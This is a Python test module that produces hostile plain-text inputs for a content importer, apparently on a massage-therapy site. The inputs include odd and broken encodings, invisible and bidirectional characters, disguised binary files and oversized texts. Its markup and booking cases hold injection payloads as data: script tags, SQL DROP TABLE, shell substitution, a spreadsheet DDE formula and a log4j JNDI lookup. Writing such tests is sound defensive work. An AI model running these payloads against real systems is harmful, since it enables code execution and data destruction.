"""Plain text: encodings that it does not say, characters that are not seen, too much of it."""

import random
from collections.abc import Iterator

from tests.importer.hostile.cases import Bait, Case, raw, written

_ACCENTS = "KEPTalpha – café, naïve, “quoted” and déjà vu.\n\nA second paragraph: KEPTbeta."


def cases(bait: Bait) -> Iterator[Case]:
    yield from _unicode()
    yield from _legacy()
    yield from _broken()
    yield from _empty()
    yield from _unseen()
    yield from _markup(bait)
    yield from _contacts(bait)
    yield from _long_fields()
    yield from _disguised()
    yield from _large()
    yield from _slow()


def _unicode() -> Iterator[Case]:
    yield written("utf-8", _ACCENTS)
    yield written("utf-8-bom", _ACCENTS, encoding="utf-8-sig")
    for end in ("le", "be"):
        bom = {"le": b"\xff\xfe", "be": b"\xfe\xff"}[end]
        yield written(f"utf-16-{end}-bom", _ACCENTS, encoding=f"utf-16-{end}", before=bom)
        yield written(f"utf-16-{end}", _ACCENTS, encoding=f"utf-16-{end}")
        bom = {"le": b"\xff\xfe\0\0", "be": b"\0\0\xfe\xff"}[end]
        yield written(f"utf-32-{end}-bom", _ACCENTS, encoding=f"utf-32-{end}", before=bom)
        yield written(f"utf-32-{end}", _ACCENTS, "either", encoding=f"utf-32-{end}")
    yield written("utf-7", "KEPTalpha caf+AOk-", encoding="ascii")
    yield written("utf-16-lone", "KEPTalpha \ud800 end", encoding="utf-16", errors="surrogatepass")
    yield raw("utf-16-odd", "odd".encode("utf-16") + b"x", "accept", keeps=("odd",))
    yield raw("utf-16-of-zeros", b"\xff\xfe" + b"\0" * 4001, "either")
    yield written("bom-in-the-middle", "KEPTalpha\ufeff and \ufeffKEPTbeta\ufeff")
    yield written("many-boms", "\ufeff" * 500 + "KEPTalpha")
    yield written("two-boms", "KEPTalpha", before=b"\xef\xbb\xbf\xff\xfe")
    yield written("utf-8-after-utf-16-mark", "KEPTalpha", "either", before=b"\xff\xfe")
    yield written("double-encoded", _ACCENTS.encode().decode("cp1252", "replace"))


def _legacy() -> Iterator[Case]:
    yield written("cp1252", _ACCENTS, encoding="cp1252")
    yield written("latin-1", "KEPTalpha café naïve", encoding="latin-1")
    yield written("latin-9", "KEPTalpha 60 € café", encoding="iso-8859-15")
    yield written("mac-roman", _ACCENTS, encoding="mac_roman")
    yield written("cp437", "KEPTalpha café", encoding="cp437")
    yield written("utf-8-with-cp1252", "Ünïcödé KEPTalpha", before="“café” ".encode("cp1252"))
    yield written("cp1252-declared-otherwise", 'charset="idna" é KEPTalpha', encoding="cp1252")
    yield written("declared-hex", 'encoding="hex" é KEPTalpha', encoding="cp1252")
    yield written("declared-nothing", "charset=undefined é KEPTalpha", encoding="cp1252")
    russian, greek = "Массаж помогает при боли в спине. KEPTalpha", "Η μάλαξη βοηθά. KEPTalpha"
    for encoding in ("cp1251", "koi8_r", "iso-8859-5"):
        yield written(f"russian-{encoding}", russian, encoding=encoding)
    yield written("greek", greek, encoding="cp1253")
    yield written("hebrew", "עיסוי רפואי KEPTalpha", encoding="cp1255")
    yield written("arabic", "التدليك العلاجي KEPTalpha", encoding="cp1256")
    yield written("thai", "นวดแผนไทย KEPTalpha", encoding="cp874")
    for encoding in ("shift_jis", "euc_jp", "iso2022_jp"):
        yield written(f"japanese-{encoding}", "マッサージは腰痛に。 KEPTalpha ", encoding=encoding)
    yield written("chinese-gb18030", "按摩有助于缓解背痛。 KEPTalpha ", encoding="gb18030")
    yield written("chinese-big5", "按摩有助於緩解背痛。 KEPTalpha ", encoding="big5")
    yield written("korean", "마사지는 허리 통증에. KEPTalpha ", encoding="euc_kr")
    yield written("ebcdic", "HIDDENalpha in ebcdic", "either", encoding="cp500")


def _broken() -> Iterator[Case]:
    pieces = {
        "cut-off": b"\xe2\x82",
        "overlong": b"\xc0\xaf\xe0\x80\xaf",
        "lone-continuation": b"\x80\xbf\x80",
        "cesu": b"\xed\xa0\xbd\xed\xb8\x80",
        "lone-surrogate": b"\xed\xa0\x80",
        "above-unicode": b"\xf5\x90\x80\x80",
        "noncharacter": b"\xef\xbf\xbe\xef\xbf\xbf\xf4\x8f\xbf\xbf",
        "nul": b"\x00",
        "many-nuls": b"\x00" * 5000,
        "every-byte": bytes(range(256)),
    }
    for name, data in pieces.items():
        yield raw(
            f"broken-{name}",
            f"KEPTbroken{name} before ".encode() + data + b" KEPTafter",
            "accept",
            keeps=(f"KEPTbroken{name}",),
        )
    yield written("json-surrogates", r'{"text": "KEPTalpha \ud800 \udfff \u0000"}')
    noise = random.Random(7)
    for number in range(6):
        data = noise.randbytes(3000)
        yield raw(f"noise-{number}", data, "either", extension=("txt", "html", "md")[number % 3])


def _empty() -> Iterator[Case]:
    nothing = {
        "no-bytes": b"",
        "two-nuls": b"\0\0",
        "only-nuls": b"\0" * 1000,
        "spaces": b" \t\r\n\x0b\x0c " * 100,
        "controls": bytes(range(1, 9)) * 9,
        "bom": b"\xef\xbb\xbf",
        "bom-16": b"\xff\xfe",
        "bom-32": b"\xff\xfe\0\0",
        "unseen": "\u200b\u2060\ufeff\u202e\u00ad".encode() * 9,
        "odd-spaces": "\u00a0\u2003\u3000\u2028\u2029\u0085".encode() * 9,
    }
    for name, data in nothing.items():
        yield raw(f"empty-{name}", data, "reject")
    yield raw("one-nul", b"\0", "either")
    yield raw("empty-page", b"<html><body></body></html>", "reject", extension="html")
    yield raw("empty-markdown", b"---\ntitle: x\n---\n\n[a]: b\n", "reject", extension="md")


def _unseen() -> Iterator[Case]:
    yield written("right-to-left", "עיסוי רקמות עמוק KEPTalpha. تدليك الأنسجة KEPTbeta.")
    yield written("bidi-override", "\u202eKEPTalpha\u202c \u2067KEPTbeta\u2069 \u200fKEPTgamma")
    yield written("bidi-heading", "# \u202eKEPTalpha fdp.exe\n\nText KEPTbeta", extension="md")
    for name, character in {
        "zero-width": "\u200b",
        "joiner": "\u2060",
        "soft-hyphen": "\u00ad",
        "bom": "\ufeff",
        "override": "\u202e",
        "tag": "\U000e0041",
        "nul": "\0",
    }.items():
        text = f"KEPT{character}inside{character}{name.replace('-', '')} is one word"
        keeps = (f"KEPTinside{name.replace('-', '')}",)
        yield raw(f"unseen-{name}", text.encode(), "accept", keeps=keeps)
    yield written("combining", "KEPTalpha z" + "\u0301\u0337\u0353" * 3000)
    yield written("only-combining", "\u0301" * 300 + "\n\nKEPTalpha")
    yield written("emoji", "👩‍⚕️💆🏽‍♀️ KEPTalpha 🇨🇦\ufe0f")
    yield written("emoji-title", "# 💆\n\nKEPTalpha text.", extension="md")
    yield written("sign-title", "# !!!\n\nKEPTalpha text.", extension="md")
    yield written("sign-title-html", "<title>***</title><p>KEPTalpha", extension="html")
    yield written("private-characters", "\ue000\uf8ff\U0010fffd KEPTalpha")
    yield written(
        "separators", "KEPTalpha\u2028KEPTbeta\u2029KEPTgamma\x85KEPTdelta\x0bKEPTepsilon"
    )
    yield written("carriage-returns", "KEPTalpha\r\rKEPTbeta\r\n\r\nKEPTgamma\n\rKEPTdelta")
    yield written("terminal", "\x1b[31mKEPTalpha\x1b[0m\x07\x08\x1b]0;title\x07 KEPTbeta")
    yield written("ligature-title", "# " + "ﷺ" * 255 + "\n\nKEPTalpha", extension="md")
    yield written("other-digits", "Prices KEPTalpha\n\n٦٠ minutes – $٩٠\n٩٠ minutes – $١٢٠\n")
    yield written("other-numbers", "١. KEPTalpha\n٢. KEPTbeta\n²) KEPTgamma\n③. KEPTdelta\n")
    yield written("turkish", "İİİ KEPTalpha ıßŉǰ\n\nİSTANBUL MASSAGE\n\nKEPTbeta")


def _markup(bait: Bait) -> Iterator[Case]:
    """In plain text, markup is words: they are kept, and escaped."""
    yield written("text-script", "KEPTalpha <script>alert(1)</script> KEPTbeta")
    yield written("text-handler", 'KEPTalpha <img src=x onerror="alert(1)"> KEPTbeta')
    yield written("text-page-link", 'KEPTalpha <a linktype="page" id="1">KEPTbeta</a>')
    yield written("text-embed", f'KEPTalpha <embed embedtype="media" url="{bait.http}"/>')
    yield written("text-image", '<embed embedtype="image" id="1" format="left"/> KEPTalpha')
    yield written("text-entities", "KEPTalpha &lt;script&gt; &#60;b&#62; &amp;lt; KEPTbeta")
    yield written("text-item", "Benefits\n\n- <script>KEPTalpha</script>\n- <b>KEPTbeta</b>\n")
    yield written("text-heading", "<SCRIPT>KEPTALPHA</SCRIPT>\n\nSome words KEPTalpha.")
    yield written("text-template", "KEPTalpha {{ 7|add:7 }} {% load x %} {# KEPTbeta #} ${7*7}")
    yield written("text-sql", "KEPTalpha'); DROP TABLE wagtailcore_page; -- %s %(a)s {0} {a.b}")
    yield written("text-shell", "KEPTalpha $(touch /tmp/x) `id` | ; && > /dev/null\n")
    yield written("text-json", '[{"type": "overview", "value": {"text": "<script>KEPTalpha"}}]')
    yield written("text-formula", "=cmd|' /C calc'!A0 KEPTalpha\n+1+1\n-2\n@SUM(1)")
    yield written("text-include", f"\\include{{{bait.file}}} @import url({bait.http}) KEPTalpha")
    yield written("text-log4j", f"${{jndi:ldap://{bait.http}/a}} KEPTalpha")
    yield written("text-doctype", "<!DOCTYPE html><p>KEPTalpha<script>HIDDENbeta</script>")


def _contacts(bait: Bait) -> Iterator[Case]:
    """Lines of which a call-to-action is made."""
    lines = {
        "javascript": "Book now: javascript:alert(1) KEPTalpha",
        "credentials": "Book online at https://user:pass@booking.example.com/ KEPTalpha",
        "homograph": "Book online at https://bооking.example.com/ KEPTalpha",
        "bidi": "Book online at https://booking.example.com/\u202egpj.exe KEPTalpha",
        "markup": 'Book at https://booking.example.com/"><script>alert(1)</script> KEPTalpha',
        "no-host": "Book online at https:///x http://: https://[::1 www.. KEPTalpha",
        "port": "Book online at https://booking.example.com:99999/ KEPTalpha",
        "canary": f"Book online at {bait.http}/book KEPTalpha",
        "long-link": "Book online at https://booking.example.com/" + "a" * 3000 + " KEPTalpha",
        "long-label": "Book online at https://" + "a" * 80 + ".example.com/ KEPTalpha",
        "long-mail": f"Book now: {'a' * 200}@{'b' * 80}.example.com KEPTalpha",
        "mail-header": "Book now: me@example.com?bcc=all@example.com%0aX KEPTalpha",
        "digits": "Book now, call " + "519-555-0142 " * 40 + "KEPTalpha",
        "one-number": "Book now, call " + "1" * 3000 + " KEPTalpha",
        "odd-number": "Book now, call ٥١٩-٥٥٥-٠١٤٢ or +999999999999999 KEPTalpha",
    }
    for name, line in lines.items():
        yield written(f"booking-{name}", f"What it is.\n\n{line}\n")
    yield written(
        "prices-large", "Fees KEPTalpha\n\n60 min $9999999\n600 min $1234.567\n0 min $0\n"
    )
    yield written("prices-many", "Prices KEPTalpha\n\n" + "60 minutes – $100\n" * 1500)


def _long_fields() -> Iterator[Case]:
    """Words that are longer than the field that they would be in."""
    long = "KEPTalpha " + "wording " * 700 + "KEPTbeta"
    yield written("long-item", f"Conditions treated\n\n- {long}\n- Back pain\n")
    yield written("long-benefit", f"Benefits\n\n- {long}\n- Better sleep\n")
    yield written("long-warning", f"Contraindications\n\n- {long}\n- Fever\n")
    yield written("long-question", f"FAQ\n\nQ: {long}?\n\nA: Yes KEPTgamma.\n\nQ: And?\n\nA: No.\n")
    yield written("long-heading", f"<h2>{long}</h2><p>KEPTgamma", extension="html")
    yield written("long-title", f"<title>{long}</title><h1>{long}</h1><p>KEPTg", extension="html")
    yield written("long-step", f"What to expect\n\n1. {long}\n2. Rest KEPTgamma: {long}\n")
    yield written("long-booking", f"Book now\n\nBook now at 519-555-0142 {long[:300]} KEPTgamma")
    yield written("long-price", f"Prices\n\n60 minutes – $90 {'very ' * 14}good KEPTalpha\n" * 2)
    yield written("long-word", "KEPTalpha\n\n" + "w" * 20_000)
    yield written("long-synonym", "Conditions\n\n- Back pain (" + "also " * 200 + "KEPTalpha)\n")
    members = "pain, stress and fever KEPTalpha"
    yield written("sentences", f"Do not book if you have {members}. " * 700)


def _disguised() -> Iterator[Case]:
    """What is no text at all, and says so by its first bytes."""
    for name, data in DISGUISES.items():
        yield raw(f"disguised-{name}", data + b" HIDDENbody" * 50, "reject", hides=("HIDDENbody",))
    yield raw("disguised-late-pdf", b"\n\n  %PDF-1.7 HIDDENlate", "reject", hides=("HIDDENlate",))
    for extension in ("md", "html", "htm", "markdown", "text"):
        yield raw(f"pdf-as-{extension}", b"%PDF-1.4\n1 0 obj", "reject", extension=extension)


DISGUISES = {
    "pdf": b"%PDF-1.7\n1 0 obj",
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rtf": b"{\\rtf1\\ansi ",
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "gif": b"GIF89a\x01\0",
    "webp": b"RIFF\x24\0\0\0WEBPVP8 ",
    "tiff": b"II*\0\x08\0\0\0",
    "zip": b"PK\x03\x04\x14\0",
    "empty-zip": b"PK\x05\x06" + b"\0" * 18,
}


def _large() -> Iterator[Case]:
    """Beyond the limits: refused, and soon."""
    yield raw("large-10-mb", lambda: b"many words " * 950_000, "reject", alone=True)
    yield raw("large-11-mb", lambda: b"many words " * 1_050_000, "reject", alone=True)
    yield raw("large-line", lambda: b"w" * 5_000_000, "reject", alone=True)
    yield raw("large-bullets", lambda: b"- bullet\n" * 100_000, "reject", alone=True)
    yield raw("large-lines", lambda: b"a\n" * 200_000, "reject", alone=True)
    yield raw("large-empty-lines", lambda: b"\n" * 9_000_000, "reject", alone=True)
    yield raw("large-nuls", lambda: b"\0" * 9_900_000, "reject", alone=True)
    yield raw("large-unseen", lambda: "\u200b".encode() * 3_300_000, "reject", alone=True)
    yield raw("large-broken", lambda: b"\x80\xff" * 240_000, "either", alone=True)
    yield raw("large-utf-16", lambda: ("w " * 2_400_000).encode("utf-16"), "reject", alone=True)
    padded = b"KEPTpadded\n" + b"\n" * 400_000 + b"KEPTend"
    yield raw("large-padding", padded, "accept", keeps=("KEPTpadded", "KEPTend"), alone=True)


#: Pieces that a careless expression would go through again and again.
_REPEATED = {
    "letters": "a",
    "words": "word ",
    "spaces": "a" + " " * 200,
    "digits": "1",
    "numbers": "1 ",
    "telephones": "519-555-014 ",
    "dots": "a.",
    "sentences": "A. ",
    "commas": "such as a, ",
    "members": "conditions such as pain, ",
    "parentheses": "such as (",
    "brackets": "[",
    "braces": "{{",
    "dashes": "- ",
    "underscores": "_",
    "ats": "a@",
    "hosts": "www.",
    "links": "https://a",
    "cues": "suffer from ",
    "helps": "conditions we treat ",
    "negations": "not be ",
    "book": "book now ",
    "questions": "why? ",
    "quotes": "“'\"",
    "x": "xX",
    "minutes": "60 min $",
    "dollars": "$1",
    "accents": "é",
}


def _slow() -> Iterator[Case]:
    """Allowed, but for its shape: all that can be asked is that it takes no longer than others."""
    for name, piece in _REPEATED.items():
        text = "KEPTalpha " + piece * (SLOW // len(piece)) + " b KEPTbeta"
        yield written(f"slow-{name}", text, alone=True)
    short = "\n".join(f"Some Short Line {number}" for number in range(1500))
    yield written("slow-short-lines", f"KEPTalpha\n\n{short}", alone=True)
    yield written("slow-headings", "KEPTalpha\n\n" + short.replace("\n", "\n\n"), alone=True)
    asked = "\n\n".join(f"Why is it number {number}?" for number in range(1500))
    yield written("slow-asked", f"KEPTalpha\n\n{asked}", alone=True)
    items = "\n".join(f"- Kind {number} of back pain" for number in range(1500))
    yield written("slow-items", f"Conditions KEPTalpha\n\n{items}", alone=True)
    pains = "- " + "back pain " * 2000 + "KEPTalpha"
    yield written("slow-terms", f"Conditions treated\n\n{pains}\n{pains}", alone=True)
    yield written("slow-indents", "\n".join(" " * n + "KEPTalpha" for n in range(800)), alone=True)


#: Characters of each: a fraction of what is allowed, of which the square is enough.
SLOW = 40_000
